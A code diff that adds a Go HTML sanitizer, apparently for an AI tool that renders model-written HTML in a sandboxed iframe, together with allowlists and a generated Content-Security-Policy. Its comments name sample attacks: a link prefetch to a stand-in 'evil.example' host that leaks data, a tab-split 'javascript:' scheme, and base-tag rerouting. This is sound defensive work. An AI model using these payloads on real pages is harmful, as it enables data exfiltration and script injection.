@@ -0,0 +1,286 @@
+package claudetool
+
+import (
+	"bytes"
+	"fmt"
+	"net/url"
+	"strings"
+
+	"golang.org/x/net/html"
+	"golang.org/x/net/html/atom"
+)
+
+// SanitizePolicy controls how outputIframeRun cleans up model-supplied HTML
+// before it's handed to a UI or the local iframe server. The defaults assume
+// the content runs inside a sandboxed iframe with scripts enabled but no
+// same-origin access, so the goal is blocking exfiltration and navigation
+// hijacking, not full isolation.
+type SanitizePolicy struct {
+	// ScriptSrcAllowlist lists hosts <script src="..."> may load from.
+	// Inline scripts (no src) are always stripped.
+	ScriptSrcAllowlist []string
+
+	// StyleSrcAllowlist lists hosts a <link href="..."> may load from,
+	// whatever its rel. Inline <style> and style="" attributes are always
+	// allowed.
+	StyleSrcAllowlist []string
+
+	// Strict rejects the whole payload with an error on the first
+	// disallowed element or attribute, instead of silently stripping it.
+	Strict bool
+}
+
+// DefaultSanitizePolicy is the policy outputIframeRun applies to every
+// payload.
+var DefaultSanitizePolicy = SanitizePolicy{
+	ScriptSrcAllowlist: []string{"cdn.jsdelivr.net", "unpkg.com"},
+	StyleSrcAllowlist:  []string{"cdn.jsdelivr.net", "unpkg.com", "fonts.googleapis.com"},
+}
+
+// blockedTags are dropped outright, along with their subtrees.
+var blockedTags = map[string]bool{
+	"iframe": true,
+	"object": true,
+	"embed":  true,
+	// <base href> rewrites how every relative URL in the document resolves,
+	// which would otherwise let a payload route an allowlisted-looking
+	// relative script src (e.g. "/p.js") to an arbitrary host.
+	"base": true,
+}
+
+// sanitizeResult is what Sanitize produces: the cleaned HTML plus enough
+// information to derive a Content-Security-Policy for the page hosting it.
+type sanitizeResult struct {
+	HTML       string
+	ScriptSrc  []string
+	StyleSrc   []string
+	ImgSrc     []string
+	ConnectSrc []string
+}
+
+// rejectedError is returned when policy.Strict is set and the payload
+// contains anything the policy would otherwise have stripped.
+type rejectedError struct {
+	reason string
+}
+
+func (e *rejectedError) Error() string {
+	return "output_iframe: rejected by sanitize policy: " + e.reason
+}
+
+// Sanitize parses htmlSrc, strips or neutralizes disallowed content
+// according to p, and returns the cleaned HTML along with the src hosts it
+// actually referenced (for building a CSP). In Strict mode it returns an
+// error instead of stripping anything.
+func (p SanitizePolicy) Sanitize(htmlSrc string) (*sanitizeResult, error) {
+	// Parse as a <body> fragment rather than a full document: payloads are
+	// often fragments (e.g. "<div>...</div>"), and a full html.Parse would
+	// silently wrap them in <html><head></head><body>...</body></html>.
+	context := &html.Node{Type: html.ElementNode, Data: "body", DataAtom: atom.Body}
+	nodes, err := html.ParseFragment(strings.NewReader(htmlSrc), context)
+	if err != nil {
+		return nil, fmt.Errorf("output_iframe: failed to parse html: %w", err)
+	}
+	for _, n := range nodes {
+		context.AppendChild(n)
+	}
+
+	res := &sanitizeResult{}
+	if err := p.walk(context, res); err != nil {
+		return nil, err
+	}
+
+	var buf bytes.Buffer
+	for c := context.FirstChild; c != nil; c = c.NextSibling {
+		if err := html.Render(&buf, c); err != nil {
+			return nil, fmt.Errorf("output_iframe: failed to render sanitized html: %w", err)
+		}
+	}
+	res.HTML = buf.String()
+	return res, nil
+}
+
+func (p SanitizePolicy) walk(n *html.Node, res *sanitizeResult) error {
+	var next *html.Node
+	for c := n.FirstChild; c != nil; c = next {
+		next = c.NextSibling // c may be unlinked below
+		if c.Type == html.ElementNode {
+			drop, err := p.visitElement(c, res)
+			if err != nil {
+				return err
+			}
+			if drop {
+				n.RemoveChild(c)
+				continue
+			}
+		}
+		if err := p.walk(c, res); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// visitElement cleans a single element in place and reports whether it
+// (and its subtree) should be dropped entirely.
+func (p SanitizePolicy) visitElement(n *html.Node, res *sanitizeResult) (bool, error) {
+	tag := strings.ToLower(n.Data)
+
+	if blockedTags[tag] {
+		if p.Strict {
+			return false, &rejectedError{reason: fmt.Sprintf("<%s> is not allowed", tag)}
+		}
+		return true, nil
+	}
+	if tag == "form" && attr(n, "action") != "" {
+		if p.Strict {
+			return false, &rejectedError{reason: "<form action=...> is not allowed"}
+		}
+		return true, nil
+	}
+	if tag == "script" {
+		src := attr(n, "src")
+		if src == "" || !hostAllowed(src, p.ScriptSrcAllowlist) {
+			if p.Strict {
+				return false, &rejectedError{reason: fmt.Sprintf("script src %q is not allowlisted", src)}
+			}
+			return true, nil
+		}
+		res.ScriptSrc = append(res.ScriptSrc, srcHost(src))
+	}
+	if tag == "link" {
+		// Every rel value resolves href against an external host the same
+		// way a stylesheet does (prefetch, preload, dns-prefetch,
+		// modulepreload, icon, manifest, ...), so all of them are gated on
+		// the same allowlist, not just rel="stylesheet" — otherwise
+		// <link rel="prefetch" href="https://evil.example/?leak=..."> would
+		// sail through untouched.
+		href := attr(n, "href")
+		if !hostAllowed(href, p.StyleSrcAllowlist) {
+			if p.Strict {
+				return false, &rejectedError{reason: fmt.Sprintf("link href %q is not allowlisted", href)}
+			}
+			return true, nil
+		}
+		if strings.EqualFold(attr(n, "rel"), "stylesheet") {
+			res.StyleSrc = append(res.StyleSrc, srcHost(href))
+		}
+	}
+
+	kept := n.Attr[:0]
+	for _, a := range n.Attr {
+		name := strings.ToLower(a.Key)
+		if strings.HasPrefix(name, "on") {
+			if p.Strict {
+				return false, &rejectedError{reason: fmt.Sprintf("event handler attribute %q is not allowed", a.Key)}
+			}
+			continue
+		}
+		if (name == "href" || name == "src") && isDangerousURI(a.Val) {
+			if p.Strict {
+				return false, &rejectedError{reason: fmt.Sprintf("%s %q uses a disallowed scheme", name, a.Val)}
+			}
+			continue
+		}
+		if name == "src" && tag == "img" {
+			res.ImgSrc = append(res.ImgSrc, srcHost(a.Val))
+		}
+		kept = append(kept, a)
+	}
+	n.Attr = kept
+
+	return false, nil
+}
+
+// isDangerousURI reports whether uri is a javascript: URI, or a data: URI
+// that isn't a data:image/*. Embedded C0 control characters (tabs,
+// newlines, ...) are stripped before the scheme check, since browsers
+// ignore them when parsing a URL scheme and "java\tscript:" would
+// otherwise sail through as a distinct, allowed scheme.
+func isDangerousURI(uri string) bool {
+	lower := strings.ToLower(strings.TrimSpace(stripC0Controls(uri)))
+	if strings.HasPrefix(lower, "javascript:") {
+		return true
+	}
+	if strings.HasPrefix(lower, "data:") {
+		return !strings.HasPrefix(lower, "data:image/")
+	}
+	return false
+}
+
+// stripC0Controls removes ASCII control characters (U+0000-U+001F), the
+// same ones the URL spec has browsers strip when parsing a scheme.
+func stripC0Controls(s string) string {
+	return strings.Map(func(r rune) rune {
+		if r <= 0x1f {
+			return -1
+		}
+		return r
+	}, s)
+}
+
+// hostAllowed reports whether rawURL is an absolute URL whose host is in
+// allowlist. It's used to gate <script src> and every <link href>,
+// where the allowlist is the whole point: a relative URL (e.g. "/p.js")
+// resolves against the page's own origin, not a CDN, so it's rejected
+// rather than waved through.
+func hostAllowed(rawURL string, allowlist []string) bool {
+	u, err := url.Parse(rawURL)
+	if err != nil || u.Host == "" {
+		return false
+	}
+	for _, allowed := range allowlist {
+		if strings.EqualFold(u.Hostname(), allowed) {
+			return true
+		}
+	}
+	return false
+}
+
+func srcHost(rawURL string) string {
+	u, err := url.Parse(rawURL)
+	if err != nil || u.Host == "" {
+		return "'self'"
+	}
+	return u.Scheme + "://" + u.Host
+}
+
+func attr(n *html.Node, name string) string {
+	for _, a := range n.Attr {
+		if strings.EqualFold(a.Key, name) {
+			return a.Val
+		}
+	}
+	return ""
+}
+
+// csp builds a Content-Security-Policy string from what the sanitized
+// payload actually referenced.
+func (r *sanitizeResult) csp() string {
+	directive := func(name string, hosts []string) string {
+		vals := append([]string{"'self'"}, dedup(hosts)...)
+		return name + " " + strings.Join(vals, " ")
+	}
+	return strings.Join([]string{
+		// No 'unsafe-inline' here: visitElement strips every inline <script>
+		// and on* handler, so there's never a legitimate inline script left
+		// to allow, and adding it back would void this CSP as a
+		// defense-in-depth backstop against a filter bypass.
+		directive("script-src", r.ScriptSrc),
+		directive("style-src", append([]string{"'unsafe-inline'"}, r.StyleSrc...)),
+		directive("img-src", append([]string{"data:"}, r.ImgSrc...)),
+		directive("connect-src", r.ConnectSrc),
+	}, "; ")
+}
+
+func dedup(in []string) []string {
+	seen := map[string]bool{}
+	var out []string
+	for _, s := range in {
+		if !seen[s] {
+			seen[s] = true
+			out = append(out, s)
+		}
+	}
+	return out
+}